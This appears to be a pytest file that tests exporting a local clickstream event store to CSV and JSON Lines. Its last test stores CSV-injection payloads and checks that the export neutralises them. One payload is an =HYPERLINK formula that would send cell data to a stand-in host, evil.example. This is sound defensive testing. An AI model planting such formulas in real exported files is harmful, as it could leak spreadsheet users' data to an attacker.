"""Export of the local store: every event, exactly as stored, as CSV or JSON Lines."""

from __future__ import annotations

import csv
import io
import json
import os
from datetime import datetime
from pathlib import Path

import pytest

from shared.event import Event, EventFactory
from worker.__main__ import main
from worker.export import export
from worker.store import EVENT_COLUMNS as COLUMNS
from worker.store import Store


@pytest.fixture
def events(data_dir: Path, monkeypatch: pytest.MonkeyPatch) -> list[Event]:
    """Stored out of time order, with awkward metadata; HL_VOX_DATA_DIR points at the store."""
    made = [Event("e-1", "s-1", "2025-03-10T10:00:00.000001+00:00", "button_click", "start_button",
                  '{"time_input":"00:25:00"}'),
            Event("e-2", "s-1", "2025-03-10T09:00:00+00:00", "button_click", "reset_button", None),
            Event("e-3", "s-1", "2025-03-10T09:59:59.999999+00:00", "weapon_select", "weapon_dropdown",
                  json.dumps({"weapon": "m4a1", "note": 'a,"b"\nc é'}, ensure_ascii=False))]
    store = Store(data_dir / "clickstream.sqlite3")
    store.add(made)
    store.close()
    for name in list(os.environ):
        if name.startswith("HL_VOX_"):
            monkeypatch.delenv(name)
    monkeypatch.setenv("HL_VOX_DATA_DIR", str(data_dir))
    return sorted(made, key=lambda e: datetime.fromisoformat(e.timestamp))


def test_jsonl_round_trips_every_event_oldest_first(events: list[Event], data_dir: Path) -> None:
    out = io.StringIO()
    assert export(data_dir / "clickstream.sqlite3", "jsonl", out) == 3
    lines = [json.loads(line) for line in out.getvalue().splitlines()]
    assert [Event(**line) for line in lines] == events
    assert [line["component"] for line in lines] == ["reset_button", "weapon_dropdown", "start_button"]


def test_csv_round_trips_through_a_csv_reader(events: list[Event], data_dir: Path, capsys) -> None:
    assert main(["export", "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert tuple(rows[0]) == COLUMNS
    assert [Event._make(row[name] if name != "metadata" else row[name] or None for name in COLUMNS)
            for row in rows] == events
    assert json.loads(rows[1]["metadata"])["note"] == 'a,"b"\nc é'


def test_output_file_is_written_whole(events: list[Event], tmp_path: Path, capsys) -> None:
    target = tmp_path / "out.jsonl"
    assert main(["export", "--format", "jsonl", "--output", str(target)]) == 0
    assert len(target.read_text(encoding="utf-8").splitlines()) == 3
    assert "exported 3 event(s)" in capsys.readouterr().err
    assert not (tmp_path / "out.jsonl.partial").exists()


def test_missing_store_fails_and_leaves_no_file(tmp_path: Path, monkeypatch, capsys) -> None:
    monkeypatch.setenv("HL_VOX_DATA_DIR", str(tmp_path / "nowhere"))
    target = tmp_path / "out.csv"
    assert main(["export", "--format", "csv", "--output", str(target)]) == 1
    assert "no local clickstream store" in capsys.readouterr().err
    assert list(tmp_path.iterdir()) == []  # neither out.csv nor a partial file, nor a new store


def test_empty_store_exports_just_the_header(data_dir: Path) -> None:
    store = Store(data_dir / "clickstream.sqlite3")
    store.add([])  # creates the file with its tables
    store.close()
    out = io.StringIO()
    assert export(data_dir / "clickstream.sqlite3", "csv", out) == 0
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [list(COLUMNS)]


@pytest.mark.parametrize("argv", [["export"], ["export", "--format", "parquet"]])
def test_export_usage_errors(argv: list[str], capsys) -> None:
    assert main(argv) == 2
    assert "--format" in capsys.readouterr().err


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(events: list[Event], data_dir: Path,
                                                                capsys) -> None:
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click me")', "+1", "-2", "@SUM(A1)", "\tx", "\ry"]
    store = Store(data_dir / "clickstream.sqlite3")
    factory = EventFactory("s")
    store.add([factory.make("button_click", component) for component in hostile])
    store.close()
    assert main(["export", "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert [row["component"] for row in rows[len(events):]] == ["'" + value for value in hostile]
    assert main(["report", "--format", "csv"]) == 0
    report = capsys.readouterr().out
    assert "'=HYPERLINK" in report and "\n=" not in report and ",=" not in report
